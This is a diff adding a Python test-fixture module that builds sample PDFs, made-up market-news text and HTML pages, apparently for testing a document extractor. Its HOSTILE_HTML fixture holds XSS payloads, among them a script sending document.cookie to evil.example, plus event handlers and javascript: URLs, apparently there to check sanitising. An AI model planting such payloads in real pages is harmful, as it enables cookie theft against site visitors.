@@ -1,0 +1,111 @@
+"""Sample inputs built in code: PDFs written byte by byte, HTML pages, and
+article prose written for these tests (no published text is copied)."""
+
+from __future__ import annotations
+
+import io
+
+ARTICLE = (
+    "Tokyo shares extended their run this week as investors bet on fiscal support.\n\n"
+    "Toyota fell 3.2% on Tuesday after the yen firmed, while Advantest jumped more than 10% "
+    "over the week on demand for chip testers.\n\n"
+    "Table 2. Moves so far this year (YTD 2026)\n"
+    "Kioxia Holdings ~120% Memory prices\n"
+    "IHI Corp +45% Defense orders\n"
+    "Nikkei 225 +5% Broad buying\n"
+)
+
+
+def make_pdf(pages: list[str] | None = None, *, text_layer: bool = True, title: str | None = None) -> bytes:
+    """A valid PDF with one text line per line of each page string (Helvetica),
+    or, with text_layer=False, pages that only draw shapes, like a scan."""
+    pages = pages if pages is not None else [ARTICLE]
+    objects: list[bytes] = []
+
+    def add(body: bytes) -> int:
+        objects.append(body)
+        return len(objects)
+
+    catalog = add(b"")  # filled in once the page tree exists
+    tree = add(b"")
+    font = add(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")
+    kids = []
+    for page_text in pages:
+        if text_layer:
+            lines = [b"BT", b"/F1 11 Tf", b"14 TL", b"50 780 Td"]
+            for line in page_text.split("\n"):
+                escaped = line.encode("cp1252", "replace").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
+                lines.append(b"(" + escaped + b") Tj T*")
+            lines.append(b"ET")
+        else:
+            lines = [b"0.5 g", b"50 50 500 700 re f", b"0 g", b"60 60 100 20 re f"]
+        stream = b"\n".join(lines)
+        content = add(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
+        kids.append(add(
+            b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 842] /Resources << /Font << /F1 %d 0 R >> >> "
+            b"/Contents %d 0 R >>" % (tree, font, content)
+        ))
+    objects[catalog - 1] = b"<< /Type /Catalog /Pages %d 0 R >>" % tree
+    objects[tree - 1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (
+        b" ".join(b"%d 0 R" % kid for kid in kids), len(kids))
+    info = add(b"<< /Title (%s) >>" % title.encode("latin-1")) if title else None
+
+    out = io.BytesIO()
+    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(out.tell())
+        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
+    xref = out.tell()
+    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
+    for offset in offsets:
+        out.write(b"%010d 00000 n \n" % offset)
+    trailer = b"<< /Size %d /Root %d 0 R" % (len(objects) + 1, catalog)
+    if info:
+        trailer += b" /Info %d 0 R" % info
+    out.write(b"trailer\n" + trailer + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref)
+    return out.getvalue()
+
+
+def encrypt_pdf(data: bytes, password: str = "secret") -> bytes:
+    from pypdf import PdfReader, PdfWriter
+
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
+    writer.encrypt(user_password=password, owner_password="owner-" + password, algorithm="RC4-128")
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def page(body: str, head: str = "", title: str = "Market report") -> str:
+    return (
+        f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{title}</title>{head}</head>"
+        f"<body><nav><a href='/'>Home</a> <a href='/markets'>Markets</a></nav>"
+        f"<article>{body}</article><footer>Copyright 2026 Example Media. All rights reserved.</footer>"
+        f"</body></html>"
+    )
+
+
+HOSTILE_HTML = page(
+    "<h1>Chip stocks lead Tokyo</h1>"
+    "<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>"
+    "<p onclick=\"alert('clicked')\" onmouseover=\"steal()\">Tokyo Electron rose 4.1% on Monday as "
+    "orders for etching tools picked up across the region.</p>"
+    "<iframe src='https://evil.example/frame' onload='pwn()'></iframe>"
+    "<img src=x onerror=\"alert('img')\">"
+    "<p>Advantest added 2.5% over the session, helped by upbeat comments from a large customer.</p>"
+    "<noscript>Enable JavaScript to read more</noscript>"
+    "<style>body { background: url(javascript:alert(1)) }</style>"
+    "<p><a href=\"javascript:alert('link')\">The Topix</a> gained 1.1% by the close.</p>",
+    head="<script src='https://evil.example/a.js'></script>",
+)
+
+BOILERPLATE_HTML = (
+    "<!DOCTYPE html><html><head><title>Example Media</title></head><body>"
+    "<nav><a href='/'>Home</a> | <a href='/m'>Markets</a> | <a href='/a'>About</a></nav>"
+    "<div class='cookie'>We use cookies to improve your experience on our site. Accept all cookies or manage settings.</div>"
+    "<div class='sidebar'><h3>Most read</h3><ul><li><a href='/x'>Markets wrap</a></li>"
+    "<li><a href='/y'>Yen outlook</a></li></ul></div>"
+    "<footer>Copyright 2026 Example Media. All rights reserved. Terms of use. Privacy policy.</footer>"
+    "</body></html>"
+)
